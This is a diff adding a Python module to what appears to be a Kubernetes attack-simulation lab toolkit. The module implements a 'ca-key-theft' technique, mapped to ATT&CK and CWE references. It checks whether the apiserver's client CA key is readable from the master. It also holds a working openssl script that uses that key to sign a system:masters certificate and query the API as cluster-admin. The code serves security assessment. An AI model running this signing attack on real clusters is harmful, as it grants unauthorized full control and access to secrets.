@@ -1,0 +1,120 @@
+"""Sign oneself a certificate of system:masters with the authority's key.
+
+Whoever reads the key that the apiserver's authority signs with makes up callers at will. None
+of them is ever listed anywhere, and Kubernetes cannot revoke a certificate: only a new
+authority ends it.
+"""
+
+from __future__ import annotations
+
+import secrets
+from typing import TYPE_CHECKING
+
+from labkit.cluster import Environment
+from labkit.errors import ProbeError
+from labkit.model import Claim, View
+from labkit.model.readable import readable
+from labkit.techniques._access import (
+    EVERYTHING,
+    api_url,
+    apiserver_of,
+    everything_body,
+    may_everything,
+)
+from labkit.techniques._ask import ask
+from labkit.techniques._base import ADMIN, USER_ON_MASTER, Prediction, Technique
+from labkit.techniques._files import PERSON, denied, settings_of
+from labkit.techniques._reach import run_from
+from labkit.techniques._verdict import Setting, Verdict
+
+if TYPE_CHECKING:
+    from labkit.cluster.certificates import Authority
+    from labkit.lab import Lab
+
+__all__ = ["TECHNIQUE"]
+
+USER, GROUP = "labkit-stolen", "system:masters"
+SIGN = """
+set -eu; umask 077; mkdir "$1"; cd "$1"
+openssl req -new -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout key -out csr \
+  -subj "/O=$3/CN=$2" 2>/dev/null
+echo extendedKeyUsage=clientAuth >usages
+openssl x509 -req -in csr -CA "$4" -CAkey "$5" -CAserial serial -CAcreateserial -days 1 \
+  -extfile usages -out crt 2>/dev/null
+"""
+
+
+def predict(view: View, foothold: str) -> Prediction:
+    """Say what the model says: who can read the key that signs the apiserver's callers."""
+    authority, node = _authority(view.env)
+    if not node:
+        absent = f"the key of {authority.name} is not on the master"
+        return Prediction(False, (str(Claim("none", absent, authority.source)),))
+    claim = readable(view.env, view.env.node(node), authority.key, PERSON)
+    trusted = apiserver_of(view.env).setting("client-ca-file").source
+    said = (str(claim), f"signs the apiserver's callers: {trusted}")
+    return Prediction(True, said) if claim.value == "readable" else Prediction(False, said[:1])
+
+
+def execute(lab: Lab, foothold: str) -> Verdict:
+    """Read the authority's key, sign a certificate, use it and throw it away."""
+    authority, node = _authority(lab.environment)
+    if refused := denied(lab, TECHNIQUE.name, foothold, node, [authority.key]):
+        return refused
+    folder = f"/tmp/labkit-{secrets.token_hex(4)}"  # noqa: S108 - of the attacker's own
+    try:
+        wanted = authority.certificate, authority.key
+        argv = ["sh", "-c", SIGN, "sign", folder, USER, GROUP, *wanted]
+        if code := run_from(lab, foothold, argv).exit_code:
+            raise ProbeError(f"openssl could not sign with {authority.key}: exit status {code}")
+        return ask(
+            lab,
+            TECHNIQUE.name,
+            foothold,
+            api_url(lab, EVERYTHING),
+            body=everything_body(),
+            options=["--cert", f"{folder}/crt", "--key", f"{folder}/key"],
+            proof=lambda answer: f"signed a certificate of {GROUP}: {may_everything(answer)}",
+            control=lambda: _control(lab),
+        )
+    finally:
+        run_from(lab, foothold, ["rm", "-rf", folder])
+
+
+def _control(lab: Lab) -> str:
+    lab.kubectl("get", "--raw=/api/v1/namespaces/shop/secrets?limit=1")
+    return "the administrator, signed by the same authority, is served"
+
+
+def _authority(env: Environment) -> tuple[Authority, str]:
+    """Return who signs the apiserver's callers, and the master if the key is there."""
+    apiserver = apiserver_of(env)
+    trusted = apiserver.setting("client-ca-file").value
+    found = next(item for item in env.authorities if item.certificate == trusted)
+    return found, apiserver.node if apiserver.node in found.key_nodes and found.key else ""
+
+
+def _settings(env: Environment) -> list[Setting]:
+    authority, node = _authority(env)
+    return settings_of(env, node, (authority.key,)) if node else []
+
+
+TECHNIQUE = Technique(
+    name="ca-key-theft",
+    title="Become cluster-admin with the key of the cluster's authority",
+    footholds=(USER_ON_MASTER,),
+    grants=(ADMIN,),
+    about="",
+    properties=(),
+    attack=("T1552.004", "T1649"),
+    stride=("spoofing", "elevation of privilege"),
+    cwe=("CWE-732", "CWE-321"),
+    sources=(
+        "CIS Kubernetes Benchmark 1.1.21",
+        "https://kubernetes.io/docs/setup/best-practices/certificates/",
+        "https://attack.mitre.org/techniques/T1649/",
+    ),
+    predict=predict,
+    execute=execute,
+    settings=_settings,
+)
